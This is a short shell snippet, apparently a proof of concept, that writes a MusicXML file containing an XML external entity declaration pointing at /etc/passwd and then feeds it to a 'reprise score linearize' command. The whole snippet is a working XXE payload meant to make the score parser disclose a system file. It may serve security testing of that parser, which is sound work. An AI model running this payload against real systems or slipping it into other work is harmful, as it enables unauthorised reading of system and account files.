cat >a.musicxml <<'XML'
<!DOCTYPE a [
<!ENTITY a SYSTEM "/etc/passwd">
]>
<score-partwise>&a;</score-partwise>
XML
reprise score linearize a.musicxml
